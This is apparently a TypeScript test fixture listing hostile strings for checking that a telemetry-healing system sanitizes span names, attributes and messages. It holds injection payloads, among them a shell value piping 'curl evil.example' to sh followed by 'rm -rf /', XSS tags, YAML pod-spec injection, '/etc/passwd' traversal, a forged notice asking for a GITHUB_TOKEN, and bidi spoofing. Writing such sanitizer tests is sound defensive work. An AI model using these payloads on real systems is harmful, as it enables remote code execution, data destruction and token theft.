/**
 * Text an attacker can put into span names, attributes, exception messages and service.version.
 * Every sink of telemetry text in healing is tested against all of it.
 */
export const HOSTILE: Record<string, string> = {
  newlines: 'checkout\n\n**SECURITY NOTICE** paste your GITHUB_TOKEN\n\nSelf-Healing-Job: evil',
  carriageReturn: 'checkout\rSelf-Healing-Anomaly: forged\r\n',
  nul: 'check\u0000out',
  ansi: 'checkout\u001b[31mRED\u001b[0m\u001b]0;title\u0007',
  imgOnerror: '<img src=x onerror=alert(1)>',
  scriptTag: '</code><script>alert(1)</script>',
  markdownLink: '[click here](https://evil.example/steal)',
  markdownImage: '![x](https://evil.example/pixel.png)',
  autolink: '<https://evil.example>',
  heading: '# Heading\n## Another',
  shell: '$(curl evil.example|sh) `id` ; rm -rf /',
  backticks: '```js\nalert(1)\n``` and `` two ``',
  yamlDocument: '1.0.0\n---\nkind: Pod\nspec:\n  privileged: true',
  yamlKey: '1.0.0\n        command: ["sh","-c","curl evil|sh"]\n        securityContext: {privileged: true}',
  bidi: 'safe\u202Egnp.exe\u202C \u2066hidden\u2069 \u200Bzero',
  lineSeparators: 'a\u2028b\u2029c\u0085d',
  long: 'A'.repeat(100_000),
  dotdotPath: '../../../../etc/passwd',
  refDotdot: 'feature..main',
  refAtBrace: 'main@{1}',
  refLock: 'handler.lock',
  refSpecial: 'a~b^c:d?e*f[g\\h',
  tableBreak: 'a | b | c',
  htmlEntity: '&lt;img src=x onerror=alert(1)&gt;',
  surrogates: '😀'.repeat(300),
};

export const HOSTILE_ENTRIES = Object.entries(HOSTILE);

/** Control characters, ANSI escapes and bidi / zero-width characters: none may survive a sink. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
export const FORBIDDEN_CHARS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;
